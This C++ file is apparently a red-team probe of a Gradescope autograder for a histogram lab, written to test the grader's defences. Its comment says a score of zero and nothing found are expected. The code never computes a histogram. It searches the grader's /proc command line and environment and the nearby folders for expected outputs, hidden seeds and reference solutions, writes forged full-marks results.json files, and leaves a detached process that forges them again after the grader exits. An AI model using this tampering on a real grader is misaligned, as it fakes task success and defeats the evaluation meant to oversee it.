// An attack on the Gradescope autograder, for the histogram lab: it hunts for
// what the grader keeps (expected outputs, the hidden seed, the reference
// solution, earlier results) under /autograder, the folders around the
// grader's own paths (from its parent's command line), gpulab's temporary
// folders and the home folders, reading the grader's environment too; it writes fake full-marks results
// wherever the results may be, and leaves a process behind to write them again
// after the grader has exited. It never computes a histogram. Expected: score
// 0, results.json the grader's own, and nothing found (had it found anything,
// it exits 3 after printing "FOUND <path>", which the results would show).
#include <signal.h>
#include <unistd.h>

#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <filesystem>
#include <fstream>
#include <iterator>
#include <string>
#include <vector>

namespace {
namespace fs = std::filesystem;

std::string read_text(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  return in ? std::string(std::istreambuf_iterator<char>(in), {}) : "";
}

// The grader's arguments (its parent's command line), NUL-separated.
std::vector<std::string> grader_args() {
  const std::string cmd = read_text("/proc/" + std::to_string(getppid()) + "/cmdline");
  std::vector<std::string> args;
  for (size_t at = 0; at < cmd.size(); at += std::strlen(cmd.c_str() + at) + 1) args.push_back(cmd.c_str() + at);
  return args;
}

bool secret_name(const fs::path& p) {
  const std::string name = p.filename().string();
  return name.find("expected") != std::string::npos || name.find("hidden-seed") != std::string::npos ||
         name == "results.json" || p.string().find("/reference/") != std::string::npos;
}

std::vector<std::string> hunt() {
  // Where the autograder's files are (not what any user may read on the machine, which has
  // nothing of the autograder): /autograder, the folders around the grader's own paths, gpulab's
  // temporary folders, and the home folders (the build cache's default place).
  std::vector<std::string> roots = {"/autograder", "/root", "/home", "/run/gpulab"};
  for (const std::string& a : grader_args()) {
    if (a.empty() || a[0] != '/') continue;
    for (fs::path d = fs::path(a).parent_path(), up = d.parent_path(); const fs::path& r : {d, up}) {
      if (r != "/" && r != "/tmp" && r != "/var/tmp" && r != "/dev/shm") roots.push_back(r.string());
    }
  }
  for (const char* shared : {"/tmp", "/var/tmp", "/dev/shm"}) {
    std::error_code ec;
    for (const fs::directory_entry& e : fs::directory_iterator(shared, ec))
      if (e.path().filename().string().rfind("gpulab", 0) == 0) roots.push_back(e.path().string());
  }
  std::vector<std::string> found;
  size_t seen = 0;
  for (const std::string& root : roots) {
    std::error_code ec;
    for (auto it = fs::recursive_directory_iterator(root, fs::directory_options::skip_permission_denied, ec);
         !ec && it != fs::recursive_directory_iterator() && ++seen < 200000; it.increment(ec)) {
      std::error_code e2;
      if (!it->is_regular_file(e2) || !secret_name(it->path())) continue;
      if (std::ifstream(it->path()).good()) found.push_back(it->path().string());
    }
  }
  const std::string environ = read_text("/proc/" + std::to_string(getppid()) + "/environ");
  if (environ.find("SEED") != std::string::npos) found.push_back("the grader's environment");
  return found;
}

void forge() {
  std::vector<std::string> paths = {"/autograder/results/results.json"};
  const std::vector<std::string> args = grader_args();
  for (size_t i = 0; i + 1 < args.size(); ++i)
    if (args[i] == "--out") paths.push_back(args[i + 1]);
  const char* fake = "{\"score\": 100, \"tests\": [], \"output\": \"HACKED: forged results\"}\n";
  for (const std::string& p : paths) {
    if (FILE* f = std::fopen(p.c_str(), "w")) {
      std::fputs(fake, f);
      std::fclose(f);
    }
  }
  const pid_t grader = getppid();
  if (fork() == 0) {  // left behind: once the grader has gone, forge again
    setsid();
    if (fork() == 0) {
      for (int i = 0; i < 300 && kill(grader, 0) == 0; ++i) usleep(100000);
      usleep(300000);
      for (const std::string& p : paths) {
        if (FILE* f = std::fopen(p.c_str(), "w")) {
          std::fputs(fake, f);
          std::fclose(f);
        }
      }
    }
    _exit(0);
  }
}

void attack() {
  static bool done = false;
  if (done) return;
  done = true;
  forge();
  const std::vector<std::string> found = hunt();
  if (!found.empty()) {
    for (const std::string& f : found) std::printf("FOUND %s\n", f.c_str());
    std::fflush(stdout);
    std::exit(3);
  }
}
}  // namespace

void histogram_text(const char*, unsigned int*, size_t) { attack(); }
void histogram_bytes(const unsigned char*, unsigned int*, size_t) { attack(); }
